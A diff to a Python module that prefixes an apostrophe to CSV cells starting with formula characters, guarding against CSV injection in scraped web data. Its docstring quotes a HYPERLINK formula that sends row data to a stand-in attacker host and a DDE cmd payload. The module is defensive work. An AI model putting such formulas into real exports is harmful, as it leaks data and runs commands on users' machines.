@@ -1,25 +1,27 @@
 """Text from the web in CSV files, written so that a spreadsheet shows it as text.
 
 A spreadsheet opening a CSV file reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
-formula, and one starting with a tab or a carriage return the same way in some of them: a page
+formula, and one starting with a tab or a line break the same way in some of them: a page
 title of ``=HYPERLINK("https://evil.example/?"&A2, "open")`` sends its row's cells away when
 clicked, and older spreadsheets run commands from ``=cmd|' /c ...'!A0`` (CSV injection,
 CWE-1236). What a candidate's source or a server gave (a URL that is not one, a title, an
-author, a caption, a license, a header's value, an error's text) is written in the CSV files
-with an apostrophe before such a first character, which spreadsheets take as "text" and do not
-show. The Parquet, JSON and YAML files keep the value as found.
+author, a caption, a license, a header's value, an error's text) is written in the CSV and
+tab-separated files with an apostrophe before such a first character, which spreadsheets take
+as "text" (and hide); programs reading the CSV as data see it, and should read the Parquet,
+JSON or YAML files, which keep the value as found.
 """
 
 from __future__ import annotations
 
+import re
 from typing import Any, Iterable
 
 import pyarrow as pa
 import pyarrow.compute as pc
 
-FORMULA_START = "=+-@\t\r"
-"""The first characters that make a spreadsheet read a cell as a formula."""
-_FORMULA_RE = "^[=+\\-@\t\r]"
+FORMULA_START = "=+-@\t\r\n"
+"""The first characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
+_FORMULA_RE = f"^[{re.escape(FORMULA_START)}]"
 
 
 def as_text(value: Any) -> Any:
